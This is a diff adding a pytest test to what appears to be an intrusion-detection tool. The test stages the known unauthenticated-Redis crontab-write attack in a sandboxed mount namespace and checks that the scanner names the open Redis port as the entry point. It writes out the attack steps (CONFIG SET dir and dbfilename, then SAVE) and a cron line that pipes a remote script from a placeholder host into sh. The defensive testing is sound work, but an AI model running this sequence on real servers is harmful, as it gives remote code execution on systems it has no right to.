@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import shutil
+import sys
 from pathlib import Path
 
 import pytest
@@ -103,6 +104,37 @@ def test_a_save_is_told_by_its_log_only_where_the_system_refused_it(network: Net
     (hit,) = stands_open(davy, "redis", pid, "--logs")["no-password"]["used"]
     assert (hit["sign"], hit["shows"]) == ("saved-where-programs-start", "attempt")
     assert str(forbidden) in hit["detail"]
+
+
+def test_it_is_named_as_the_door_of_a_crontab_that_a_stranger_had_it_save(
+    network: Network, folder: Path, tmp_path: Path
+) -> None:
+    """The crontabs are a folder of the test's own, in a mount namespace of Redis's own: no cron reads them."""
+    crontabs = folder / "crontabs"
+    crontabs.mkdir()
+    config = folder / "redis.conf"
+    config.write_text(
+        f'port {PORT}\ndir {folder}\nlogfile {folder}/redis.log\nsave ""\n{OPEN}\nenable-protected-configs yes\n'
+    )
+    server = program("redis-server", "redis-server")
+    begun = f"mount --bind {crontabs} /var/spool/cron/crontabs && exec {server} {config}"
+    pid = network.start("unshare", "--mount", "sh", "-c", begun)
+    assert within(20, lambda: network.listens(PORT))
+    stranger = ("-h", "198.51.100.1")
+    line = "* * * * * curl -fsSL http://203.0.113.7/x.sh | sh"
+    assert told(network, *stranger, "set", "x", f"\n\n{line}\n\n") == "OK"
+    assert told(network, *stranger, "config", "set", "dir", "/var/spool/cron/crontabs") == "OK"
+    assert told(network, *stranger, "config", "set", "dbfilename", "root") == "OK"
+    assert told(network, *stranger, "save") == "OK"
+    inside = ("nsenter", f"--target={pid}", "--mount", sys.executable, "-m", "davy")
+    scanned = network.run(*inside, "scan", "--json", "--state", str(tmp_path / "state"), check=False, seconds=120)
+    (incident,) = json.loads(scanned.stdout)["incidents"]
+    assert [actor["command"] for actor in incident["actors"] if actor["role"] == "autostart"] == [line[10:]]
+    door = incident["door"]
+    assert door is not None, json.dumps(incident["other_doors"], indent=1)
+    assert (door["kind"], door["address"]) == ("redis", f"0.0.0.0:{PORT}")
+    assert any("/var/spool/cron/crontabs/root" in evidence for evidence in door["evidence"]), door["evidence"]
+    assert f"{folder}/redis.conf: requirepass <a long random password>" in door["fix"]
 
 
 @pytest.mark.usefixtures("no_drill_left")
